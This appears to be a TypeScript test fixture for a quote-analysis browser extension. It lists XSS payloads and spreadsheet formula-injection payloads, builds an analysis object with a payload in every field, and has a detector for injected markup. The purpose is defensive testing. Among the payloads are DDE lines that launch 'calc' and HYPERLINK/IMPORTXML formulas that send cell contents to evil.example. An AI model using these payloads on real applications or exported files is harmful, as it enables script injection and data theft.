/**
 * Hostile page text: what a page (or a comment inside an article) can put where the
 * engine will read a quote, a speaker's name or role. Every surface that shows page text
 * (hover card, popup, exports) is tested against these.
 */
import type { Analysis, Quote, Speaker } from '../../../utils/engine/types';

export const MARKUP_PAYLOADS = [
  '<img src=x onerror="window.__quotelensPwned=1">',
  '<script>window.__quotelensPwned=1</script>',
  '<svg><animate onbegin="window.__quotelensPwned=1" attributeName=x dur=1s>',
  '"><iframe src="javascript:window.__quotelensPwned=1">',
  '<a href="javascript:window.__quotelensPwned=1">click</a>',
  '<style>*{display:none!important}</style>',
  '{{constructor.constructor("window.__quotelensPwned=1")()}}',
  '&lt;b&gt;entity&lt;/b&gt; &amp;',
  '[click](javascript:alert(1)) ![img](http://evil.example/x.png)',
  '\u202eevil\u202c <b>bidi</b>',
];

export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
  '"=1+1"',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
];

/** An Analysis whose every page-derived string carries a payload; offsets index `text`. */
export function hostileAnalysis(payloads: string[]): { text: string; analysis: Analysis } {
  let text = '';
  const quotes: Quote[] = [];
  const speakers: Speaker[] = [];
  payloads.forEach((payload, i) => {
    const name = `${payload} Name${i}`;
    const mentionStart = text.length;
    text += name;
    const mentionEnd = text.length;
    text += ' said: “';
    const start = text.length;
    text += payload;
    const end = text.length;
    text += '”.\n\n';
    const id = `s${i}`;
    speakers.push({ id, name, aliases: [payload], kind: 'person', role: payload, country: null, count: 1, words: payload.split(/\s+/).length });
    quotes.push({
      id: `q${i}`,
      start,
      end,
      text: payload,
      kind: 'direct',
      cue: { text: 'said', start: mentionEnd + 1, end: mentionEnd + 5, tone: 'loaded' },
      mention: { text: name, start: mentionStart, end: mentionEnd },
      speakerId: id,
      via: payload,
    });
  });
  return {
    text,
    analysis: {
      lang: 'en',
      article: { isArticle: true, title: payloads[0] ?? null, confidence: 1, words: text.split(/\s+/).length },
      quotes,
      speakers,
    },
  };
}

/** Elements or attributes that could only exist if page text was parsed as HTML. */
export function injectedMarkup(root: ParentNode): string[] {
  const found: string[] = [];
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'img', 'iframe', 'svg', 'animate', 'style', 'object', 'embed'].includes(tag) && el.closest('[data-quotelens-icon]') === null) {
      // Our own UI may legitimately use <svg> icons or a <style>; those never carry page text.
      if ((tag === 'svg' || tag === 'style') && !/quotelensPwned|evil|display:none!important/.test(el.outerHTML)) continue;
      found.push(`<${tag}> ${el.outerHTML.slice(0, 80)}`);
    }
    for (const attr of Array.from(el.attributes)) {
      if (/^on/i.test(attr.name)) found.push(`${tag}[${attr.name}]`);
      // Text in aria-label or title is inert; a javascript: URL only runs from a URL attribute.
      if (/^(href|src|action|formaction|xlink:href|data|srcdoc)$/i.test(attr.name) && /javascript:|data:text\/html/i.test(attr.value)) found.push(`${tag}[${attr.name}=${attr.value.slice(0, 40)}]`);
    }
  }
  return found;
}
